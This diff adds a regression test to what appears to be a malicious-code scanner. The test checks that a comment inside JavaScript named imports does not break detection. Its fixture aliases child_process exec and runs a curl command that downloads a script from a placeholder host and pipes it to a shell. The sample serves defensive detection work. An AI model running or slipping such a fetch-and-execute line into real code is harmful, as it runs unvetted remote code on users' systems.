@@ -235,3 +235,21 @@ TEST(CodePrefilter, EveryMaliciousPythonFixturePassesTheFilter) {
 
 }  // namespace
 }  // namespace hazmat::code
+
+namespace hazmat::testing {
+namespace {
+
+TEST(CodeRules, CommentInsideNamedImportsIsSkipped) {
+    // A comment among import specifiers once reached the rules as a
+    // specifier and crashed the scan.
+    const auto scan = scan_source("lib/colors.js", R"(
+import { // eslint-disable-line import/order
+  exec as run,
+} from "child_process";
+run("curl -s http://x.invalid/a | sh");
+)");
+    EXPECT_THAT(scan.of("HZ-CODE-031"), SizeIs(1));
+}
+
+}  // namespace
+}  // namespace hazmat::testing
